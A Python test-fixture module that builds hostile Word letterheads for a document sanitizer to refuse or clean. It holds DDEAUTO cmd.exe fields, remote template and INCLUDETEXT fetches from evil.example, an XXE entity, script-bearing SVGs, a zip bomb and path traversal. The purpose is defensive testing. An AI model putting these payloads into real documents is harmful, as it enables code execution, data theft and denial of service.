"""Letterheads that would run, fetch, hide or break something: each with a name, and with what must hold of it."""

import io
import random
import struct
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from word_package import (
    MAIN,
    OFFICE,
    SECTION,
    WORD,
    Package,
    document,
    drawing,
    emf,
    emf_saying,
    fld,
    gif,
    jpeg,
    p,
    package,
    png,
    t,
    text_box,
    wmf,
)

EVIL = "http://evil.example/x"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
OCTETS = "application/octet-stream"


@dataclass(frozen=True)
class Hostile:
    """A letterhead, and what must hold: `refused` is part of the reason; else `told` is part of what is told of it.

    `gone` is in no part of what is made, and `stays` is in its text.
    """

    make: Callable[[], bytes]
    refused: str = ""
    told: str = ""
    gone: tuple[str, ...] = ()
    stays: tuple[str, ...] = ("Exempelkommun",)


HEAD = p(t("Exempelkommun")) + p(t("[RAPPORT]"))
Change = Callable[[Package], object]


def _of(change: Change, body: str = "") -> bytes:
    made = package(HEAD + body)
    change(made)
    return made.packed()


def _nothing(_: Package) -> None:
    """Change nothing."""


def _body(xml: str, told: str, *gone: str, stays: tuple[str, ...] = ()) -> Hostile:
    return Hostile(lambda: _of(_nothing, xml), told=told, gone=gone, stays=("Exempelkommun", *stays))


def _changed(change: Change, told: str, *gone: str, body: str = "") -> Hostile:
    return Hostile(lambda: _of(change, body), told=told, gone=gone)


def _refused(change: Change, reason: str, body: str = "") -> Hostile:
    return Hostile(lambda: _of(change, body), refused=reason)


def _part(name: str, data: bytes | str, kind: str, content_type: str = OCTETS, owner: str = MAIN) -> Change:
    return lambda made: made.add(owner, kind, name, data, content_type)


def _related(kind: str, target: str, mode: str = "External", owner: str = MAIN) -> Change:
    return lambda made: made.relate(owner, kind, target, mode)


def _shown(data: bytes, ending: str) -> Callable[[], bytes]:
    """Return a letterhead with a picture of some bytes under an ending."""

    def make() -> bytes:
        made = package("")
        known = made.add(MAIN, "image", f"word/media/bild.{ending}", data)
        made.parts[MAIN] = document(HEAD + p(drawing(known)) + SECTION.format("", "")).encode()
        return made.packed()

    return make


def _sym(code: str) -> str:
    return f'<w:r><w:sym w:font="Symbol" w:char="{code}"/></w:r>'


def _picture(data: bytes, ending: str, *gone: str) -> Hostile:
    return Hostile(_shown(data, ending), told="pictures that are not PNG", gone=("<w:drawing", *gone))


def _svg(inside: str, *gone: str, start: str = "") -> Hostile:
    """Return a letterhead with a PNG that has an SVG beside it, of which the PNG stays."""
    text = f'{start}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{inside}</svg>'

    def make() -> bytes:
        made = package("")
        plain = made.add(MAIN, "image", "word/media/bild.png", png())
        drawn = made.add(MAIN, "image", "word/media/bild.svg", text)
        more = f"""<a:extLst><a:ext uri="{{96DAC541-7B7A-43D3-8B79-37D633B846F1}}"><asvg:svgBlip r:embed="{drawn}"/>
          </a:ext></a:extLst>"""
        made.parts[MAIN] = document(HEAD + p(drawing(plain, more=more)) + SECTION.format("", "")).encode()
        return made.packed()

    return Hostile(make, told="SVG pictures", gone=("svgBlip", ".svg", *gone))


def _setting(xml: str, told: str, *gone: str, related: tuple[str, str] | None = None) -> Hostile:
    def change(made: Package) -> None:
        made.add(MAIN, "settings", "word/settings.xml", document(xml, "settings"), f"{WORD}settings+xml")
        if related:
            made.relate("word/settings.xml", related[0], related[1], "External")

    return _changed(change, told, *gone)


def _field(*code: str, told: str = "the field ", gone: tuple[str, ...] = (), shows: str = "visat") -> Hostile:
    return _body(p(fld(*code, shows=shows)), told, EVIL, *gone, stays=(shows,))


def _simple(code: str, told: str, *gone: str) -> Hostile:
    return _body(p(f'<w:fldSimple w:instr="{code}">{t("visat")}</w:fldSimple>'), told, *gone, stays=("visat",))


def _raw(part: str, old: str, new: str, encoding: str = "utf-8") -> Change:
    def change(made: Package) -> None:
        text = made.parts[part].decode()
        assert old in text
        made.parts[part] = text.replace(old, new, 1).encode(encoding)

    return change


def _typed(name: str, content_type: str) -> Change:
    return lambda made: made.types.update({name: content_type})


def _listed(*relationships: str) -> Change:
    """Return what adds relationships to the document as they stand."""
    return lambda made: made.relationships.setdefault(MAIN, []).extend(relationships)


def _nested(depth: int) -> str:
    return "<w:p>" * depth + "</w:p>" * depth


def _linked(inside: str) -> Hostile:
    """Return a letterhead with a drawing that has something in the words about it."""
    return _body(p(drawing("rId1").replace('descr="Kommunens vapen"/>', f"descr='x'>{inside}</wp:docPr>")), "", EVIL)


_VML = """<w:r><w:pict><v:shape id="a" type="#_x0000_t75" {} style="width:9pt;height:9pt;background:url({})">{}
</v:shape></w:pict></w:r>"""
_SHEET = "<w:r><w:object>{}</w:object></w:r>"
_QUOTED_CODE = [fld(f" QUOTE {ord(letter)} ") for letter in "DDE"]
_ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'


def _lying_size() -> bytes:
    """Return a document with a part that is said to be small and unpacks to 100 MB."""
    file = io.BytesIO(_of(_nothing))
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/bomb.xml", b"x" * 100_000_000)
    data = bytearray(file.getvalue())
    for sign, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = data.rindex(
            sign, 0, data.rindex(b"word/bomb.xml") if sign == b"PK\x01\x02" else data.index(b"word/bomb.xml")
        )
        data[start + place : start + place + 4] = struct.pack("<I", 1000)
    return bytes(data)


def padding() -> str:
    """Return a paragraph that is not packed well, so that a document is not refused for how tightly it is packed."""
    return p(t(random.Random(1).randbytes(30_000).hex()))  # noqa: S311 - no secret


def _strict() -> bytes:
    made = package(HEAD)
    base = "http://purl.oclc.org/ooxml/"
    for name, data in made.parts.items():
        text = data.decode().replace(
            "http://schemas.openxmlformats.org/wordprocessingml/2006/main", f"{base}wordprocessingml/main"
        )
        made.parts[name] = text.encode()
    made.relationships = {
        owner: [one.replace(OFFICE, f"{base}officeDocument/relationships/") for one in listed]
        for owner, listed in made.relationships.items()
    }
    return made.packed()


HOSTILE: Mapping[str, Hostile] = {
    # What the document is tied to
    "attached template": _setting(
        '<w:attachedTemplate r:id="rId1"/>',
        "the link to a template",
        "attachedTemplate",
        EVIL,
        related=("attachedTemplate", EVIL),
    ),
    "styles of the template": _setting("<w:linkStyles/>", "the link to a template", "linkStyles"),
    "mail merge": _setting(
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:query w:val="SELECT"/><w:dataSource '
        'r:id="rId1"/></w:mailMerge>',
        "mail merge",
        "mailMerge",
        "SELECT",
        EVIL,
        related=("mailMergeSource", EVIL),
    ),
    "saved through a style sheet": _setting(
        '<w:saveThroughXslt r:id="rId1"/>', "links to other files", "Xslt", EVIL, related=("transform", EVIL)
    ),
    "document variables": _setting(
        '<w:docVars><w:docVar w:name="a" w:val="cmd.exe"/></w:docVars>', "document variables", "cmd.exe"
    ),
    "protection": _setting(
        '<w:documentProtection w:edit="readOnly" w:enforcement="1" w:hash="abc"/>', "protection", "documentProtection"
    ),
    "other file as the body": _refused(_part("word/a.mht", "x", "aFChunk"), "altChunk", '<w:altChunk r:id="rId2"/>'),
    "other file that nothing shows": _changed(_part("word/a.mht", "evil", "aFChunk"), "links to other files", "evil"),
    "master document": _refused(_related("subDocument", "annat.docx"), "master document", '<w:subDoc r:id="rId2"/>'),
    "frames": _changed(_related("frame", EVIL), "links to other files", EVIL),
    "outside settings": _changed(_related("settings", EVIL), "what is not on the list", EVIL),
    "outside header": _changed(
        _related("header", EVIL),
        "what is not on the list",
        EVIL,
        "headerReference",
        body='<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="rId2"/></w:sectPr></w:pPr></w:p>',
    ),
    # Programs
    "macros": _changed(
        _part("word/vbaProject.bin", "evil", f"{MICROSOFT}vbaProject", "application/vnd.ms-office.vbaProject"),
        "macros",
        "evil",
        "vba",
    ),
    "document with macros": _refused(
        _typed(MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml"), "ordinary"
    ),
    "template": _refused(_typed(MAIN, f"{WORD}template.main+xml"), "ordinary"),
    "ActiveX": _changed(
        _part("word/activeX/a.xml", "<a/>", "control", "application/vnd.ms-office.activeX+xml"),
        "ActiveX",
        "activeX",
        "w:control",
        body=p(_SHEET.format('<w:control r:id="rId2" w:name="x"/>')),
    ),
    "embedded program": _changed(
        _part("word/embeddings/o.bin", "evil", "oleObject"),
        "embedded files",
        "evil",
        "OLEObject",
        body=p(_SHEET.format('<o:OLEObject Type="Embed" ProgID="Package" r:id="rId2"/>')),
    ),
    "linked object": _changed(
        _related("oleObject", "file:///C:/a.xlsx"),
        "embedded files",
        "a.xlsx",
        "OLEObject",
        body=p(_SHEET.format('<o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="rId2"/>')),
    ),
    "embedded workbook": _changed(_part("word/embeddings/a.xlsx", "evil", "package"), "embedded files", "evil"),
    "ribbon of its own": _changed(
        _part(
            "customUI/customUI.xml",
            "<a/>",
            f"{MICROSOFT.replace('2006', '2007')}ui/extensibility",
            "application/xml",
            owner="",
        ),
        "add-ins",
        "customUI",
    ),
    "add-in": _changed(
        _part(
            "word/webextensions/t.xml",
            "<a/>",
            "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
            owner="",
        ),
        "add-ins",
        "webext",
    ),
    "keyboard": _changed(
        _part("word/customizations.xml", "<a/>", f"{MICROSOFT}keyMapCustomizations"), "add-ins", "customiz"
    ),
    # What is fetched
    "outside picture": _changed(
        _related("image", EVIL),
        "pictures that are fetched from outside",
        EVIL,
        "<w:drawing",
        body=p(drawing("").replace("r:embed", "r:link").replace('r:link=""', 'r:link="rId2"')),
    ),
    "picture from a share": _changed(
        _related("image", r"\\server\share\a.png"),
        "pictures that are fetched from outside",
        "server",
        body=p(drawing("rId2")),
    ),
    "outside picture in VML": _changed(
        _related("image", EVIL),
        "pictures that are fetched from outside",
        EVIL,
        "imagedata",
        "url(",
        "href",
        body=p(_VML.format(f'href="{EVIL}"', EVIL, f'<v:imagedata r:href="rId2" src="{EVIL}"/>')),
    ),
    "fill from outside in VML": _body(
        p(_VML.format("", "x", f'<v:fill src="{EVIL}" o:href="{EVIL}" type="frame"/>')), "fetched from outside", EVIL
    ),
    "film from the web": _linked(
        '<a:extLst><a:ext uri="{C809E66F-F1BF-436E-B5F7-EEA9579F0CBA}"><wp15:webVideoPr '
        f'embeddedHtml="&lt;iframe src={EVIL}&gt;"/></a:ext></a:extLst>'
    ),
    "sound": _body(p(drawing("rId1").replace("<pic:cNvPicPr/>", f'<a:audioFile r:link="{EVIL}"/>')), "sound", EVIL),
    "chart": _body(
        p(
            '<w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="u"><c:chart xmlns:c="c" r:id="rId1"/>'
            "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
        ),
        "charts",
        "c:chart",
        "<w:drawing",
    ),
    "ink": _body(p('<w:r><w:contentPart r:id="rId1"/></w:r>'), "what is not on the list", "contentPart"),
    "movie": _body(p('<w:r><w:movie r:id="rId1"/></w:r>'), "sound and film", "movie"),
    "printer": _body(
        '<w:p><w:pPr><w:sectPr><w:printerSettings r:id="rId1"/></w:sectPr></w:pPr></w:p>', "printer", "printerSettings"
    ),
    "fonts": _changed(
        lambda made: made.add(
            MAIN,
            "fontTable",
            "word/fontTable.xml",
            document('<w:font w:name="A"><w:embedRegular r:id="rId1" w:fontKey="{1}"/></w:font>', "fonts"),
            f"{WORD}fontTable+xml",
        ),
        "embedded fonts",
        "embedRegular",
    ),
    "custom data": _changed(
        _part("customXml/item1.xml", f"<a>{EVIL}</a>", "customXml", "application/xml"),
        "links between",
        EVIL,
        "customXml",
        "dataBinding",
        body="<w:sdt><w:sdtPr><w:dataBinding w:xpath='/a' w:storeItemID='{1}'/></w:sdtPr>"
        f"<w:sdtContent>{p()}</w:sdtContent></w:sdt>",
    ),
    "data under the name of a property": _body(
        "<w:sdt><w:sdtPr><w:dataBinding w:xpath=\"document('" + EVIL + "')/a/title\" "
        "w:storeItemID='{6C3C8BC8-F283-45AE-878A-BAB7291924A1}'/></w:sdtPr><w:sdtContent/></w:sdt>",
        "",
        EVIL,
    ),
    "building blocks": _changed(
        _part(
            "word/glossary/document.xml",
            document("", "glossaryDocument"),
            "glossaryDocument",
            f"{WORD}document.glossary+xml",
        ),
        "building blocks",
        "glossary",
    ),
    "comments": _changed(
        _part("word/comments.xml", document(p(t("hemligt")), "comments"), "comments", f"{WORD}comments+xml"),
        "comments",
        "hemligt",
        "comment",
        body=p('<w:commentRangeStart w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>'),
    ),
    # Links
    "link to a file": _changed(_related("hyperlink", "file:///etc/passwd"), "links", "passwd"),
    "link to a web page": _changed(
        _related("hyperlink", EVIL),
        "links",
        EVIL,
        "<w:hyperlink",
        body=p(f'<w:hyperlink r:id="rId2" w:tooltip="{EVIL}">{t("Webb")}</w:hyperlink>'),
    ),
    "link with code": _changed(
        _related("hyperlink", "javascript:alert(1)"),
        "links",
        "javascript",
        "<w:hyperlink",
        body=p(f'<w:hyperlink r:id="rId2" w:anchor="a">{t("Webb")}</w:hyperlink>'),
    ),
    "link said to be within": _changed(_related("hyperlink", EVIL, ""), "links", EVIL),
    "link that is not external in small letters": _changed(_related("hyperlink", EVIL, "external"), "links", EVIL),
    "link on a picture": _linked(f'<a:hlinkClick r:id="rId2" action="ppaction://program" tooltip="{EVIL}"/>'),
    # Fields
    "field to a file": _simple(" HYPERLINK &quot;file:///c:/a.exe&quot; ", "links", "HYPERLINK", "a.exe"),
    "field with code": _simple(" HYPERLINK &quot;javascript:alert(1)&quot; ", "links", "HYPERLINK", "javascript"),
    "field to a place in a file": _field(rf' HYPERLINK "{EVIL}" \l "a" ', told="links", gone=("HYPERLINK",)),
    "DDEAUTO": _field(r" DDEAUTO c:\\windows\\cmd.exe ", gone=("DDEAUTO", "cmd.exe")),
    "quoted DDEAUTO": _field(
        r' "DDEAUTO" c:\\cmd.exe ', told="fields that are not on the list", gone=("DDEAUTO", "cmd.exe")
    ),
    "DDE over runs": _field(" D", "", "DE", r"AUTO c:\cmd.exe", gone=("cmd.exe",)),
    "DDE in text within the code": _field(
        " ", t("DDEAUTO"), r" c:\cmd.exe", told="fields", gone=("cmd.exe", "DDEAUTO")
    ),
    "DDE of codes": _field(*_QUOTED_CODE, r"c:\cmd.exe", told="fields", gone=("cmd.exe", "QUOTE")),
    "begins as another field": _field(" PAGE", *_QUOTED_CODE, r" c:\cmd.exe", told="fields", gone=("cmd.exe", "QUOTE")),
    "INCLUDETEXT in small letters": _field(f' includetext "{EVIL}" ', gone=("includetext",)),
    "INCLUDEPICTURE in a condition": _field(
        ' IF 1 = 1 "', fld(f' INCLUDEPICTURE "{EVIL}" ', shows="inre"), '" ""', gone=("INCLUDEPICTURE", "inre")
    ),
    "LINK": _simple(" LINK Excel.Sheet &quot;c:\\a.xlsx&quot; ", "the field LINK", "a.xlsx"),
    "field that shows paragraphs": _body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DATABASE </w:instrText>'
        f'<w:fldChar w:fldCharType="separate"/></w:r>{t("ett")}</w:p><w:p>{t("två")}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        "</w:p>",
        "the field DATABASE",
        "fldChar",
        stays=("ett", "två"),
    ),
    "code over paragraphs": _body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDE</w:instrText></w:r></w:p>'
        f'<w:p><w:r><w:instrText>TEXT "{EVIL}"</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        "field",
        EVIL,
    ),
    "code in a text box": _body(
        f"<w:p>{text_box(p(fld(f' INCLUDETEXT {EVIL} ', shows='visat')))}</w:p>", "the field", EVIL, stays=("visat",)
    ),
    "code outside a field": _body(p(f"<w:r><w:instrText> DDEAUTO {EVIL} </w:instrText></w:r>"), "", EVIL, "instrText"),
    "code that is no run's": _body(f"<w:p><w:instrText> DDEAUTO {EVIL} </w:instrText></w:p>", "", EVIL, "instrText"),
    "code without an end": _body(
        p(
            f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE {EVIL} </w:instrText>'
            f"</w:r>{t('synligt')}"
        ),
        "the field DDE",
        EVIL,
        "fldChar",
        stays=("synligt",),
    ),
    "code beside deleted code": _body(
        p(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:del><w:r><w:delInstrText> PAGE '
            f"</w:delInstrText></w:r></w:del><w:ins><w:r><w:instrText> DDE {EVIL} </w:instrText></w:r></w:ins><w:r>"
            '<w:fldChar w:fldCharType="end"/></w:r>'
        ),
        "tracked",
        EVIL,
        "fldChar",
    ),
    "macro button": _field(" MACROBUTTON Kör klicka ", gone=("MACROBUTTON", "Kör")),
    "form field": _body(
        p(
            '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Kör"/></w:ffData></w:fldChar>'
            '</w:r><w:r><w:instrText> FORMTEXT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
        "form fields",
        "ffData",
        "Kör",
        "FORMTEXT",
    ),
    # What is hidden
    "hidden text": _body(p(t("dolt", "<w:vanish/>")), "hidden text", "dolt"),
    "text hidden by a style": Hostile(
        lambda: package(
            HEAD + p(t("dolt", '<w:rStyle w:val="B"/>')) + p(t("lönn"), "C"),
            styles='<w:style w:type="character" w:styleId="A"><w:name w:val="a"/><w:rPr><w:vanish/></w:rPr></w:style>'
            '<w:style w:type="character" w:styleId="B"><w:name w:val="b"/><w:basedOn w:val="A"/></w:style>'
            '<w:style w:type="paragraph" '
            'w:styleId="C"><w:name w:val="c"/><w:rPr><w:vanish w:val="true"/></w:rPr></w:style>',
        ).packed(),
        told="hidden text",
        gone=("dolt", "lönn", "w:vanish"),
    ),
    "style of headings that hides": Hostile(
        lambda: package(
            HEAD,
            styles='<w:style w:type="paragraph" w:styleId="H"><w:name '
            'w:val="heading 2"/><w:rPr><w:vanish/></w:rPr></w:style>',
        ).packed(),
        gone=("w:vanish",),
    ),
    "hidden drawing": _body(p(drawing("rId1").replace("<wp:docPr", '<wp:docPr hidden="1"')), "hidden", "<w:drawing"),
    "hidden shape": _body(
        p(
            '<w:r><w:pict><v:rect style="width:9pt; visibility : hidden"><v:textbox><w:txbxContent>'
            f"{p(t('dolt'))}</w:txbxContent></v:textbox></v:rect></w:pict></w:r>"
        ),
        "hidden",
        "dolt",
        "v:rect",
    ),
    "hidden row": _body(
        f"<w:tbl><w:tr><w:trPr><w:hidden/></w:trPr><w:tc>{p(t('dolt'))}</w:tc></w:tr></w:tbl>", "hidden", "dolt"
    ),
    "deleted text": _body(
        p(f"<w:del>{t('struket')}</w:del><w:ins>{t('tillagt')}</w:ins>"),
        "tracked",
        "struket",
        "<w:ins>",
        stays=("tillagt",),
    ),
    # Pictures
    "program as a picture": _picture(b"MZ\x90\0" + b"\0" * 99, "png", "MZ"),
    "OLE as a picture": _picture(b"\xd0\xcf\x11\xe0" + b"\0" * 99, "emf"),
    "page as a picture": _picture(b"<html><script>alert(1)</script></html>", "png", "script"),
    "PNG of 900 million pixels": _picture(png()[:16] + struct.pack(">II", 30000, 30000) + png()[24:], "png"),
    "GIF of 4 billion pixels": _picture(gif(65535, 65535), "gif"),
    "JPEG of 4 billion pixels": _picture(jpeg(65535, 65535), "jpeg"),
    "PNG cut off": _picture(png()[:12], "png"),
    "EMF that is none": _picture(emf()[:40] + b"XXXX" + emf()[44:], "emf"),
    "WMF that runs code": _picture(wmf(struct.pack("<IHHHHI", 8, 0x0626, 9, 4, 0, 0)), "emf"),
    "TIFF": _picture(b"II*\0" + b"\0" * 40, "png"),
    "SVG in place of a picture": _picture(b'<svg xmlns="http://www.w3.org/2000/svg"/>', "png"),
    "SVG with script": _svg("<script>alert(1)</script>", "alert"),
    "SVG with an event": _svg('<rect onload="alert(1)"/>', "alert"),
    "SVG with a page": _svg("<foreignObject><p>x</p></foreignObject>"),
    "SVG with an outside picture": _svg(f'<image href="{EVIL}"/>', EVIL),
    "SVG with an outside shape": _svg(f'<use xlink:href="{EVIL}#a"/>', EVIL),
    "SVG with an outside style": _svg(f"<style>@import url({EVIL});</style>", EVIL),
    "SVG with an outside fill": _svg(f'<rect fill="url({EVIL}#a)"/>', EVIL),
    "SVG with an escaped address": _svg(f'<rect style="fill:u\\72l({EVIL})"/>', EVIL),
    "SVG that is animated": _svg('<rect><set attributeName="href" to="javascript:alert(1)"/></rect>', "alert"),
    "SVG with a link": _svg('<a xlink:href="javascript:alert(1)"><rect/></a>', "alert"),
    "SVG with entities": _svg("<text>&amp;e;</text>", "ENTITY", start=_ENTITY),
    "SVG drawn without end": _svg(
        "".join(f'<g id="a{n}">{f"""<use href="#a{n - 1}"/>""" * 9}</g>' for n in range(1, 9))
    ),
    # XML
    "document type in the document": _refused(_raw(MAIN, "<w:document", f"{_ENTITY}<w:document"), "document type"),
    "document type in UTF-16": _refused(_raw(MAIN, "<w:document", f"{_ENTITY}<w:document", "utf-16"), "document type"),
    "document type in an odd part": _refused(
        _part("word/a.txt", f"{_ENTITY}<a/>", "customXml", "application/xml"), "document type"
    ),
    "personal number": _refused(_nothing, "personal identity number", p(t("Fråga 640823-3234"))),
    "personal number in many runs": _refused(
        _nothing,
        "personal identity number",
        p(t("6408") + t("23") + "<w:r><w:noBreakHyphen/></w:r>" + t("32") + t("34")),
    ),
    "personal number around a tab": _refused(
        _nothing, "personal identity number", p(t("19640823") + "<w:r><w:tab/></w:r>" + t("3234"))
    ),
    "personal number around a tab to the margin": _refused(
        _nothing, "personal identity number", p(t("640823-") + '<w:r><w:ptab w:alignment="right"/></w:r>' + t("3234"))
    ),
    "personal number with a sign of a symbol font": _refused(
        _nothing, "personal identity number", p(t("640823") + _sym("F02D") + t("3234"))
    ),
    "personal number in a symbol font": _refused(
        _nothing, "personal identity number", p("".join(_sym(f"{ord(one):04X}") for one in "640823-3234"))
    ),
    "personal number in an EMF": Hostile(
        _shown(emf_saying("640823-3234".encode("utf-16-le")), "emf"), refused="personal identity number"
    ),
    "personal number in another hand in an EMF": Hostile(
        _shown(emf_saying("640823–3234".encode("utf-16-le")), "emf"), refused="personal identity number"
    ),
    "personal number in a comment of an EMF": Hostile(
        _shown(emf_saying("Anna 640823–3234".encode("cp1252")), "emf"), refused="personal identity number"
    ),
    "personal number in a WMF": Hostile(
        _shown(wmf(struct.pack("<IH", 10, 0x0521) + b"640823-3234".ljust(14, b"\0")), "emf"),
        refused="personal identity number",
    ),
    "personal number in words about a picture": _refused(
        _part("word/media/bild.png", png(), "image", "image/png"),
        "personal identity number",
        p(drawing("rId2", words="Anna 640823-3234")),
    ),
    "nested without measure": _refused(_nothing, "deeper", _nested(300)),
    "six million paragraphs": Hostile(lambda: _of(_nothing, "<w:p/>" * 6_000_000), refused="tightly"),
    "a million paragraphs": Hostile(lambda: _of(_nothing, "<w:p/>" * 1_000_000 + padding()), refused="larger"),
    "huge text": Hostile(lambda: _of(_nothing, p(t("x" * 7_000_000)) + padding()), refused="larger"),
    "huge attribute": Hostile(
        lambda: _of(_nothing, f'<w:p w:rsidR="{"x" * 7_000_000}"/>' + padding()), refused="larger"
    ),
    "many attributes": _refused(_nothing, "larger", "<w:p " + " ".join(f"a{n}='1'" for n in range(5000)) + "/>"),
    "part that is not well-formed": _refused(_raw(MAIN, "</w:body>", ""), "not well-formed"),
    "encoding that is not known": _refused(
        _raw(MAIN, "<w:document", '<?xml version="1.0" encoding="x-none"?><w:document'), "not well-formed"
    ),
    "two bodies": _refused(_raw(MAIN, "</w:body>", "</w:body><w:body/>"), "not a whole"),
    # The package
    "type of the styles": _refused(_typed("word/styles.xml", "application/xml"), "not what it is said to be"),
    "styles that are a document": _refused(
        lambda made: made.parts.update({"word/styles.xml": b"<a/>"}), "not what it is said"
    ),
    "two parts of styles": _refused(
        _part("word/styles2.xml", document("", "styles"), "styles", f"{WORD}styles+xml"), "not a whole"
    ),
    "two relationships of one id": _refused(
        _listed(f'<Relationship Id="rId1" Type="{OFFICE}theme" Target="a.xml"/>'), "not a whole"
    ),
    "relationships that are none": _refused(
        lambda made: made.parts.update({f"word/_rels/{'document.xml'}.rels": b"<a><b/></a>"}), "not a whole"
    ),
    "no types": _refused(lambda made: made.parts.update({"[Content_Types].xml": b"<a/>"}), "ordinary"),
    "part that leads outside": _refused(lambda made: made.parts.update({"../../x.xml": b"<a/>"}), "leads outside"),
    "part on a disk": _refused(lambda made: made.parts.update({"C:/x.xml": b"<a/>"}), "leads outside"),
    "name without end": _refused(lambda made: made.parts.update({"x" * 5000: b"<a/>"}), "leads outside"),
    "name in code": _changed(lambda made: made.parts.update({"word/%2e%2e/evil.xml": b"<a/>"}), "", "evil"),
    "target in code": _changed(
        _related("image", "..%2f..%2f..%2fetc/passwd", ""), "pictures that are fetched from outside", "passwd"
    ),
    "size that lies": Hostile(_lying_size, refused="not a whole"),
    "Strict Open XML": Hostile(_strict, refused="Strict"),
    "part of an unknown kind": _changed(
        _part("word/a.bin", "evil", "urn:x:evilKind"), "what is not on the list", "evil"
    ),
}
